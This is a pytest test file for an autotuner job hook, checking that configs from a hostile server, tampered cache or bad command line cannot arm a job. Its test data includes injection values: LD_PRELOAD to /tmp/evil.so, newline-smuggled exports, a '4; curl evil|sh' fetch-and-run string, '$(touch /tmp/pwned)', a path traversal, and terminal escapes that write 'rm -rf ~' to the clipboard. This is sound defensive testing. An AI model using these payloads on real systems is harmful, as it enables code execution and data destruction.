"""The pre-job hook against a hostile or broken server (issue 21): whatever a 200 says, `autotuner env`
exits 0 and prints nothing a job could be armed with, `autotuner exec` runs the command, and the
cache only ever holds a checked config."""

from __future__ import annotations

import http.server
import json
import os
import ssl
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from autotuner.job.exports import check_exports, checked_config

GOOD = {"NCCL_NSOCKS_PERTHREAD": "4", "AUTOTUNER_FWD_PRECISION": "fp16", "AUTOTUNER_CONFIG": "c/w/1n/v3"}
# Never published by the service (its gate refuses them): a rogue server, a proxy or a tampered
# store or cache must not get them into a job either.
FORBIDDEN = {
    "LD_PRELOAD": "/tmp/evil.so",
    "LD_LIBRARY_PATH": "/tmp",
    "NCCL_NET_PLUGIN": "evil",
    "NCCL_TUNER_PLUGIN": "evil",
    "PYTHONPATH": "/tmp",
    "PYTHONSTARTUP": "/tmp/x.py",
    "BASH_ENV": "/tmp/x.sh",
    "PATH": "/tmp",
    "AUTOTUNER_SERVER": "http://evil",
    "NCCL_CONF_FILE": "/tmp/nccl.conf",
    "A=B": "1",
    "NCCL_BUFFSIZE": "1\0",
    "NCCL_SOCKET_NTHREADS": "2\nexport LD_PRELOAD=/tmp/evil.so",
    "NCCL_IB_SL": "0x10",
}
# 200 answers that are not a config at all.
MALFORMED = [[], {}, {"exports": ["a"]}, {"exports": None}, "text", None, 7, {"exports": "LD_PRELOAD=/x"}]


def test_the_gate_keeps_what_a_config_may_set_and_names_the_rest():
    kept, dropped = check_exports({**GOOD, **FORBIDDEN, "NCCL_MIN_NCHANNELS": 4})
    assert kept == GOOD
    assert set(dropped) == {*FORBIDDEN, "NCCL_MIN_NCHANNELS"} - {"A=B"} | {"'A=B'"}
    assert "changes what runs" in dropped["LD_PRELOAD"]
    assert "control character" in dropped["NCCL_BUFFSIZE"]
    assert "not a plain decimal" in dropped["NCCL_IB_SL"]


@pytest.mark.parametrize("value", ["nan", "inf", "-1", "0", "0.0", "1e9", " 1.5", "1.5\n", "1,5", "0x2"])
def test_a_learning_rate_factor_is_a_plain_positive_decimal(value):
    kept, dropped = check_exports({"AUTOTUNER_LR_SCALE": value, "AUTOTUNER_BATCH_SIZE": "1024"})
    assert kept == {"AUTOTUNER_BATCH_SIZE": "1024"}
    assert "is not a value of AUTOTUNER_LR_SCALE" in dropped["AUTOTUNER_LR_SCALE"]
    assert check_exports({"AUTOTUNER_LR_SCALE": "1.41421"})[0] == {"AUTOTUNER_LR_SCALE": "1.41421"}


@pytest.mark.parametrize("answer", MALFORMED, ids=repr)
def test_an_answer_that_is_not_a_config_is_none(answer):
    config, why = checked_config(answer)
    assert config is None
    assert why[""]


class FakeServer:
    """Answers every GET with `status` and `body` (bytes), as `content_type` with `headers`, over http
    or https."""

    def __init__(self, body: bytes, status: int = 200, tls: tuple[Path, Path] | None = None,
                 content_type: str = "application/json", headers: dict[str, str] | None = None) -> None:  # fmt: skip
        outer = self
        self.body, self.status = body, status

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # http.server's name
                self.send_response(outer.status)
                self.send_header("Content-Type", content_type)
                for name, value in (headers or {}).items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(outer.body)))
                self.end_headers()
                self.wfile.write(outer.body)

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        scheme = "http"
        if tls is not None:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(*tls)
            self.httpd.socket = context.wrap_socket(self.httpd.socket, server_side=True)
            scheme = "https"
        self.url = f"{scheme}://127.0.0.1:{self.httpd.server_port}"
        threading.Thread(
            target=self.httpd.serve_forever, args=(0.05,), daemon=True
        ).start()  # close() waits a poll

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def serve():
    servers: list[FakeServer] = []

    def start(answer: object, **kwargs: object) -> FakeServer:
        body = answer if isinstance(answer, bytes) else json.dumps(answer).encode()
        servers.append(FakeServer(body, **kwargs))  # type: ignore[arg-type]
        return servers[-1]

    yield start
    for server in servers:
        server.close()


def hook(tmp_path: Path, url: str, *args: str, command: str = "env", extra_env: dict | None = None):
    env = {k: v for k, v in os.environ.items() if not k.startswith("AUTOTUNER_")}
    env.update({"AUTOTUNER_CACHE_DIR": str(tmp_path / "cache"), **(extra_env or {})})
    cmd = [sys.executable, "-m", "autotuner", command, "--server", url, "--cluster", "c", "--workload", "w",
           "--timeout", "10", *args]  # fmt: skip
    return subprocess.run(cmd, capture_output=True, text=True, timeout=60, env=env)


def cached_files(tmp_path: Path) -> list[Path]:
    return sorted((tmp_path / "cache").rglob("*.json"))


def assert_harmless(stdout: str) -> None:
    """Only comment lines (one line each: a shell and a TaskProlog skip them) and export lines of the
    names the gate allows."""
    exported = [line.split("=")[0].removeprefix("export ") for line in stdout.splitlines() if line[:1] != "#"]
    assert set(exported) <= set(GOOD), stdout
    assert not set(exported) & set(FORBIDDEN), stdout


@pytest.mark.parametrize("answer", MALFORMED, ids=repr)
def test_env_with_a_malformed_answer_exits_0_says_why_and_caches_nothing(tmp_path, serve, answer):
    server = serve(answer)
    for fmt in ("sh", "slurm"):
        proc = hook(tmp_path, server.url, "--format", fmt)
        assert proc.returncode == 0, proc.stderr
        assert "Traceback" not in proc.stderr
        assert "malformed" in proc.stderr
        assert not [line for line in proc.stdout.splitlines() if not line.startswith("#")]
        assert "the answer was not used" in proc.stdout
    assert cached_files(tmp_path) == []


@pytest.mark.parametrize("answer", MALFORMED, ids=repr)
def test_exec_with_a_malformed_answer_runs_the_command(tmp_path, serve, answer):
    server = serve(answer)
    proc = hook(tmp_path, server.url, "--", sys.executable, "-c", "raise SystemExit(7)", command="exec")
    assert proc.returncode == 7, proc.stderr  # the command ran; its exit code is its own
    assert "Traceback" not in proc.stderr


@pytest.mark.parametrize("fmt", ["sh", "slurm", "env", "json"])
def test_forbidden_variables_are_dropped_named_and_never_cached(tmp_path, serve, fmt):
    server = serve({"exports": {**GOOD, **FORBIDDEN}, "env": {"LD_PRELOAD": "/tmp/evil.so"}})
    proc = hook(tmp_path, server.url, "--format", fmt)
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr, proc.stderr
    if fmt == "json":
        printed = json.loads(proc.stdout)
        assert printed["exports"] == GOOD
        assert printed["env"] == {}
    else:
        assert_harmless(proc.stdout)
        assert "export NCCL_NSOCKS_PERTHREAD=" in proc.stdout
        assert "AUTOTUNER_CONFIG=c/w/1n/v3" in proc.stdout
        comments = [
            line for line in proc.stdout.splitlines() if line.startswith("# nccl-autotuner: not exported")
        ]
        assert len(comments) == len(FORBIDDEN)
    for name in ("LD_PRELOAD", "NCCL_NET_PLUGIN", "PYTHONPATH", "BASH_ENV", "NCCL_IB_SL"):
        assert name in proc.stderr  # the warning names what was dropped
    (cache,) = cached_files(tmp_path)
    assert json.loads(cache.read_text())["exports"] == GOOD


def test_exec_never_hands_a_forbidden_variable_to_the_command(tmp_path, serve):
    server = serve({"exports": {**GOOD, **FORBIDDEN}})
    show = "import json, os; print(json.dumps(dict(os.environ)))"
    proc = hook(tmp_path, server.url, "--", sys.executable, "-c", show, command="exec",
                extra_env={"LD_LIBRARY_PATH": "/keep"})  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    seen = json.loads(proc.stdout)
    assert "ld.so" not in proc.stderr
    assert "LD_PRELOAD" not in seen  # the loader never saw it
    assert seen["LD_LIBRARY_PATH"] == "/keep"
    assert seen["PATH"] == os.environ["PATH"]  # the job's own stay
    assert not {"NCCL_NET_PLUGIN", "PYTHONPATH", "BASH_ENV", "NCCL_BUFFSIZE", "NCCL_IB_SL"} & set(seen)
    assert {k: seen[k] for k in GOOD} == GOOD


def test_slurm_format_with_a_newline_in_a_value_exits_0_and_drops_only_that(tmp_path, serve):
    server = serve({"exports": {**GOOD, "NCCL_SOCKET_IFNAME": "eth0\nexport LD_PRELOAD=/tmp/evil.so"}})
    proc = hook(tmp_path, server.url, "--format", "slurm")
    assert proc.returncode == 0, proc.stderr
    assert_harmless(proc.stdout)
    assert "export NCCL_NSOCKS_PERTHREAD=4\n" in proc.stdout
    assert "not exported: NCCL_SOCKET_IFNAME" in proc.stdout


def test_a_tampered_cache_is_ignored_when_the_service_is_down(tmp_path, serve):
    server = serve({"exports": GOOD})
    assert hook(tmp_path, server.url).returncode == 0
    (cache,) = cached_files(tmp_path)
    cache.write_text(json.dumps({"exports": {**GOOD, "LD_PRELOAD": "/tmp/evil.so"}}))
    server.close()
    proc = hook(tmp_path, server.url)
    assert proc.returncode == 0
    assert proc.stdout == ""
    assert "does not pass the checks (ignored)" in proc.stderr


def test_a_malformed_answer_falls_back_to_the_checked_cache_and_leaves_it(tmp_path, serve):
    good = serve({"exports": GOOD})
    assert hook(tmp_path, good.url).returncode == 0
    (cache,) = cached_files(tmp_path)
    before = cache.read_text()
    good.body = json.dumps({"exports": ["LD_PRELOAD=/tmp/evil.so"]}).encode()  # same server, same cache key
    proc = hook(tmp_path, good.url)
    assert proc.returncode == 0
    assert "using the cached config c/w/1n/v3" in proc.stderr
    assert "export NCCL_NSOCKS_PERTHREAD=4" in proc.stdout
    assert_harmless(proc.stdout)
    assert cache.read_text() == before


@pytest.fixture(scope="module")
def certificate(tmp_path_factory):
    """A self-signed certificate for 127.0.0.1 (its own CA)."""
    where = tmp_path_factory.mktemp("tls")
    cert, key = where / "cert.pem", where / "key.pem"
    proc = subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
                           "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1",
                           "-keyout", str(key), "-out", str(cert)], capture_output=True, text=True)  # fmt: skip
    if proc.returncode != 0:
        pytest.skip(f"openssl cannot make a certificate here: {proc.stderr[-300:]}")
    return cert, key


def test_https_with_the_ca_file_is_trusted_and_without_it_is_not(tmp_path, serve, certificate):
    server = serve({"exports": GOOD}, tls=certificate)
    trusted = hook(tmp_path, server.url, extra_env={"AUTOTUNER_CA_FILE": str(certificate[0])})
    assert trusted.returncode == 0, trusted.stderr
    assert trusted.stderr == "", trusted.stderr
    assert "export AUTOTUNER_CONFIG=c/w/1n/v3" in trusted.stdout
    spoofable = hook(tmp_path / "other", server.url)  # the system's CAs do not sign it
    assert spoofable.returncode == 0
    assert spoofable.stdout == ""
    assert "CERTIFICATE_VERIFY_FAILED" in spoofable.stderr


def test_a_redirect_is_not_followed(tmp_path, serve):
    target = serve({"exports": {**GOOD, "NCCL_MIN_NCHANNELS": "4"}})
    redirect = serve(b"", status=302)
    redirect.httpd.RequestHandlerClass.do_GET = _redirect_to(target.url)  # type: ignore[method-assign]
    proc = hook(tmp_path, redirect.url)
    assert proc.returncode == 0
    assert proc.stdout == ""
    assert "302" in proc.stderr


def _redirect_to(url: str):
    def do_get(self) -> None:
        self.send_response(302)
        self.send_header("Location", url + self.path)
        self.send_header("Content-Length", "0")
        self.end_headers()

    return do_get


BAD_COMMAND_LINES = [["--bogus"], ["--token", "-starts-with-a-dash"], ["--nodes", "x"], ["--timeout"],
                     ["--cluster", "a b\nexport LD_PRELOAD=/x.so"]]  # fmt: skip


@pytest.mark.parametrize("bad", BAD_COMMAND_LINES, ids=" ".join)
def test_env_with_a_command_line_it_cannot_read_exits_0_and_says_what_is_wrong(tmp_path, bad):
    for fmt in ("sh", "json"):
        proc = hook(tmp_path, "http://127.0.0.1:9", "--format", fmt, *bad)
        assert proc.returncode == 0, proc.stderr
        assert "autotuner env: " in proc.stderr
        assert "Traceback" not in proc.stderr
        if fmt == "json":
            assert proc.stdout.strip() == "null"
            continue
        # one comment line naming the cause as stderr does (a hostile name escaped, never a command)
        [line] = proc.stdout.splitlines()
        assert line.startswith("# nccl-autotuner: no config (autotuner env: "), line
        cause = proc.stderr.split("autotuner env: ", 1)[1].split(":")[0]
        assert cause in line, (cause, line)


@pytest.mark.parametrize("bad", BAD_COMMAND_LINES, ids=" ".join)
def test_exec_with_a_command_line_it_cannot_read_still_runs_the_command(tmp_path, bad):
    proc = hook(tmp_path, "http://127.0.0.1:9", *bad, "--", sys.executable, "-c", "raise SystemExit(7)",
                command="exec")  # fmt: skip
    assert proc.returncode == 7, proc.stderr  # the command ran, with its own environment
    assert "autotuner exec: " in proc.stderr
    assert "running the command with its own environment" in proc.stderr


def test_exec_without_a_cluster_runs_the_command(tmp_path):
    env = {k: v for k, v in os.environ.items() if not k.startswith("AUTOTUNER_")}
    proc = subprocess.run([sys.executable, "-m", "autotuner", "exec", "--", sys.executable, "-c", "print('ran')"],
                          capture_output=True, text=True, timeout=60, env=env)  # fmt: skip
    assert (proc.returncode, proc.stdout) == (0, "ran\n"), proc.stderr
    assert "--cluster and --workload are required" in proc.stderr


# ---------------------------------------------------------------- the cache and the job's own environment


def env_argv(url: str) -> list[str]:
    """`autotuner env` against `url`, run as the test says (another user, another directory)."""
    return [sys.executable, "-m", "autotuner", "env", "--server", url, "--cluster", "c", "--workload", "w"]


def served_then_down(tmp_path: Path, serve) -> tuple[str, Path]:
    """A config cached from a good answer, then the service gone: (its URL, the cache file)."""
    server = serve({"exports": GOOD})
    assert hook(tmp_path, server.url).returncode == 0
    (cache,) = cached_files(tmp_path)
    server.close()
    return server.url, cache


@pytest.mark.parametrize("plant", ["fifo", "dev-zero", "big", "other-user"])
def test_a_cache_that_is_not_a_small_file_of_ours_is_not_read(tmp_path, serve, plant):
    """A FIFO at the cache path hung the job for ever; a link to /dev/zero read until memory ran out."""
    url, cache = served_then_down(tmp_path, serve)
    cache.unlink()
    if plant == "fifo":
        os.mkfifo(cache)
    elif plant == "dev-zero":
        cache.symlink_to("/dev/zero")
    elif plant == "big":
        cache.write_text(json.dumps({"exports": GOOD, "pad": "x" * (64 << 10)}))
    else:
        if os.geteuid() != 0:
            pytest.skip("making a file of another user's needs root (CI runs as root)")
        cache.write_text(json.dumps({"exports": GOOD}))
        os.chown(cache, 54321, 54321)
    proc = hook(tmp_path, url)
    assert (proc.returncode, proc.stdout) == (0, ""), proc.stderr
    assert "the cached config is not usable" in proc.stderr


def test_the_cache_is_written_under_a_name_no_one_can_plant_a_link_at(tmp_path, serve, monkeypatch):
    """The temporary file was `<key>.tmp<pid>`, written through any link found there: another user
    who planted links for the coming pids had the hook overwrite a file of the victim's."""
    from autotuner.job import hook as hook_module

    monkeypatch.setenv("AUTOTUNER_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setattr(os, "getpid", lambda: 4242)
    victim = tmp_path / "victim"
    victim.write_text("important\n")
    server = serve({"exports": GOOD})
    args = hook_module.parser("autotuner env").parse_args(
        ["--server", server.url, "--cluster", "c", "--workload", "w", "--timeout", "10"]
    )
    cache = hook_module._cache_paths(server.url, "c", "w", None)[0]
    cache.parent.mkdir(parents=True)
    cache.with_suffix(".tmp4242").symlink_to(victim)
    config, _ = hook_module.resolve(args)
    hook_module.settle_cache(args)  # the cache is written once the job has its answer
    assert config["exports"]["NCCL_NSOCKS_PERTHREAD"] == "4"
    assert victim.read_text() == "important\n"
    assert json.loads(cache.read_text())["exports"] == GOOD


def test_the_env_map_of_an_answer_carries_only_checked_values(tmp_path, serve):
    server = serve({"exports": GOOD, "env": {"NCCL_NSOCKS_PERTHREAD": "4; curl evil|sh", "LD_PRELOAD": "/x"}})
    proc = hook(tmp_path, server.url, "--format", "json")
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["env"] == {"NCCL_NSOCKS_PERTHREAD": "4"}
    (cache,) = cached_files(tmp_path)
    assert json.loads(cache.read_text())["env"] == {"NCCL_NSOCKS_PERTHREAD": "4"}


def test_a_flood_of_exports_is_a_malformed_answer(tmp_path, serve):
    """30,000 near-miss names were checked one by one, each with its did-you-mean: 4.5 s per job."""
    flood = {f"NCCL_SOCKET_NTHREADX{i}": "1" for i in range(30_000)}
    server = serve({"exports": {**GOOD, **flood}})
    proc = hook(tmp_path, server.url)
    assert (proc.returncode, proc.stdout.count("export ")) == (0, 0), proc.stderr[-500:]
    assert "30003 entries (a config has at most 256)" in proc.stderr
    assert len(proc.stderr) < 2000


def test_without_a_server_the_hook_reads_no_store(tmp_path):
    """It opened (and created) the default SQLite store, or hung on an unanswering database URL."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("AUTOTUNER_")}
    env.update(HOME=str(tmp_path), XDG_DATA_HOME=str(tmp_path / "data"),
               AUTOTUNER_DATABASE_URL="postgresql+psycopg://u:p@127.0.0.1:9/db")  # fmt: skip
    proc = subprocess.run([sys.executable, "-m", "autotuner", "env", "--cluster", "c", "--workload", "w"],
                          capture_output=True, text=True, timeout=60, env=env)  # fmt: skip
    assert (proc.returncode, proc.stdout) == (0, ""), proc.stderr
    assert "no config service set (--server or AUTOTUNER_SERVER)" in proc.stderr
    assert list(tmp_path.rglob("*.db")) == []


@pytest.mark.parametrize("where", ["relative", "no-home"])
def test_no_cache_lands_in_the_jobs_working_directory(tmp_path, serve, where):
    server = serve({"exports": GOOD})
    env = {k: v for k, v in os.environ.items() if not k.startswith("AUTOTUNER_") and k != "HOME"}
    env.pop("XDG_CACHE_HOME", None)
    if where == "relative":
        env["AUTOTUNER_CACHE_DIR"] = "cache"
    job = tmp_path / "job"
    job.mkdir()
    cmd = env_argv(server.url)
    if where == "no-home":  # a uid with no passwd entry: `~` stays `~`
        cmd = ["setpriv", "--reuid", "54321", "--regid", "54321", "--clear-groups", *cmd]
        if os.geteuid() != 0:
            pytest.skip("running as a uid without a passwd entry needs root (CI runs as root)")
        job.chmod(0o777)
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=60, env=env, cwd=job)
    assert proc.returncode == 0, proc.stderr
    assert "export NCCL_NSOCKS_PERTHREAD=4" in proc.stdout
    assert list(job.rglob("*")) == []


def test_a_shared_cache_directory_keeps_each_users_config_apart(tmp_path, serve):
    """hook.env.example's shared AUTOTUNER_CACHE_DIR: every user caches (each in its own hook-<uid>,
    mode 0700) and none reads another's."""
    if os.geteuid() != 0:
        pytest.skip("running as a second user needs root (CI runs as root)")
    import shutil
    import tempfile

    shared = Path(tempfile.mkdtemp(prefix="autotuner-shared-", dir="/tmp"))  # reachable by the other user
    try:
        shared.chmod(0o1777)
        server = serve({"exports": GOOD})
        env = {k: v for k, v in os.environ.items() if not k.startswith("AUTOTUNER_")}
        env["AUTOTUNER_CACHE_DIR"] = str(shared)
        cmd = env_argv(server.url)
        for user in ([], ["setpriv", "--reuid", "54321", "--regid", "54321", "--clear-groups"]):
            proc = subprocess.run([*user, *cmd], capture_output=True, text=True, timeout=60, env=env, cwd="/")
            assert proc.returncode == 0, proc.stderr
            assert "could not cache" not in proc.stderr, proc.stderr
        owners = {p.name: (p.stat().st_uid, oct(p.stat().st_mode & 0o777)) for p in shared.iterdir()}
        assert owners == {"hook-0": (0, "0o700"), "hook-54321": (54321, "0o700")}
        assert len(list(shared.rglob("*.json"))) == 2
    finally:
        shutil.rmtree(shared)


def test_exec_help_is_help():
    # before: `autotuner exec --help` printed one usage line and exited 2
    proc = subprocess.run([sys.executable, "-m", "autotuner", "exec", "--help"], capture_output=True, text=True,
                          timeout=60)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith("usage: autotuner exec [options] -- CMD [ARGS...]")
    assert "the cluster the config was tuned for (AUTOTUNER_CLUSTER)" in " ".join(proc.stdout.split())
    bare = subprocess.run(
        [sys.executable, "-m", "autotuner", "exec"], capture_output=True, text=True, timeout=60
    )
    assert (bare.returncode, bare.stderr) == (2, "usage: autotuner exec [options] -- CMD [ARGS...]\n")


def test_a_command_line_in_the_shape_of_configs_show_is_told_how_the_hook_takes_it(tmp_path):
    """`autotuner env C W` (the shape `configs show C W` takes) and `exec ... CMD` without `--`."""
    hook = [sys.executable, "-m", "autotuner"]
    env = {k: v for k, v in os.environ.items() if not k.startswith("AUTOTUNER_")}
    positional = subprocess.run([*hook, "env", "--server", "http://127.0.0.1:9", "p5-prod", "dlrm"],
                                capture_output=True, text=True, timeout=60, env=env)  # fmt: skip
    assert positional.returncode == 0  # fail-open, as before
    assert (
        "unrecognized arguments: p5-prod dlrm (names are options: --cluster C --workload W)"
        in positional.stderr
    )
    unknown = subprocess.run(
        [*hook, "env", "--clster", "c"], capture_output=True, text=True, timeout=60, env=env
    )
    assert "unrecognized arguments: --clster c: no tuned config" in unknown.stderr  # no hint for an option
    no_dashes = subprocess.run([*hook, "exec", "--cluster", "c", "--workload", "w", "touch", "ran"],
                               capture_output=True, text=True, timeout=60, env=env, cwd=tmp_path)  # fmt: skip
    assert no_dashes.returncode == 2
    assert not (tmp_path / "ran").exists()
    assert no_dashes.stderr.endswith("the command goes after `--`; nothing was run\n")


def test_nothing_beside_the_exports_passes_as_the_server_sent_it(tmp_path, serve):
    # `{**answer, "exports": kept}` printed and cached every other field as sent: a job reading
    # batch_size or sharding from the JSON got what the gate never saw
    hostile = {"exports": {**GOOD, "AUTOTUNER_BATCH_SIZE": "64"}, "batch_size": "$(touch /tmp/pwned)",
               "sharding": "../../etc/passwd", "lr_scale": 1e300, "pipeline": ["x"], "cluster": "other\nexport X=1",
               "qcomms": {"forward_precision": "LD_PRELOAD=/tmp/x.so"}, "evidence": {"a": "b" * 10_000},
               "validated_on": {"nccl": "2.21.5\nexport LD_PRELOAD=/x", "driver": {"nested": 1}, "bad key": "v"}}  # fmt: skip
    proc = hook(tmp_path, serve(hostile).url, "--format", "json")
    assert proc.returncode == 0, proc.stderr
    printed = json.loads(proc.stdout)
    (cache,) = cached_files(tmp_path)
    for config in (printed, json.loads(cache.read_text())):
        assert config == {
            "exports": {**GOOD, "AUTOTUNER_BATCH_SIZE": "64"}, "env": {},
            "cluster": "c", "workload": "w", "nodes": 1, "version": 3, "batch_size": 64,
            "qcomms": {"forward_precision": "fp16", "backward_precision": None},
            "validated_on": {"nccl": "2.21.5\\x0aexport LD_PRELOAD=/x"},  # printable: one line
        }  # fmt: skip


def test_long_names_are_shown_cut_short(tmp_path, serve):
    """256 dropped names of 3 KB each (under the 1 MiB answer cap) printed 1.6 MB of comments and
    warnings into every task's start (a TaskProlog reads and logs each line)."""
    server = serve({"exports": {**GOOD, **{f"NCCL_{i}_{'X' * 3000}": "1" for i in range(200)}}})
    proc = hook(tmp_path, server.url)
    assert proc.returncode == 0, proc.stderr
    assert "export NCCL_NSOCKS_PERTHREAD=" in proc.stdout
    assert len(proc.stdout) + len(proc.stderr) < 100_000


@pytest.mark.parametrize("ca_file", ["missing.pem", "a-directory", "not-a-ca.pem"])
def test_a_ca_file_that_cannot_be_used_is_said_as_the_job_s_own_setting(tmp_path, ca_file):
    """AUTOTUNER_CA_FILE missing, a directory or no PEM: the hook read it as 'config service
    unreachable (FileNotFoundError: ...)', naming no file; nothing was asked of the service."""
    (tmp_path / "a-directory").mkdir()
    (tmp_path / "not-a-ca.pem").write_text("hello\n")
    path = str(tmp_path / ca_file)
    proc = hook(tmp_path, "https://127.0.0.1:9", extra_env={"AUTOTUNER_CA_FILE": path})
    assert proc.returncode == 0
    assert proc.stdout == ""
    assert "unreachable" not in proc.stderr, proc.stderr
    assert "no request was made" in proc.stderr
    assert path in proc.stderr
    assert "AUTOTUNER_CA_FILE" in proc.stderr


HOSTILE = "\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\u202e\r\n"  # a clipboard write, a screen clear, a bidi override


@pytest.mark.parametrize(
    ("body", "kind", "headers", "said"),
    [
        ((HOSTILE * 70_000).encode(), "text/html", {}, "HTTP 404 from http://127.0.0.1:"),
        (json.dumps({"detail": "no config published for c/w (" + HOSTILE * 500 + ")"}).encode(),
         "application/json", {}, "no config published for c/w (\\x1b]52;c;"),
    ],
    ids=["another-servers-1MB-page", "the-services-shape-with-a-hostile-detail"],
)  # fmt: skip
def test_a_hostile_404_is_said_in_one_short_printable_line(tmp_path, serve, body, kind, headers, said):
    """A 404's body is the server's to write: its excerpt or detail is said without a control or format
    character a terminal or log would obey, and cut short (a 1 MB page is not read whole)."""
    server = serve(body, status=404, content_type=kind, headers=headers)
    proc = hook(tmp_path, server.url)
    assert (proc.returncode, proc.stdout) == (0, "")
    assert said in proc.stderr
    assert proc.stderr.count("\n") == 1, proc.stderr[:2000]
    assert len(proc.stderr) < 1000, proc.stderr[:2000]
    assert all(c == "\n" or " " <= c <= "~" for c in proc.stderr)
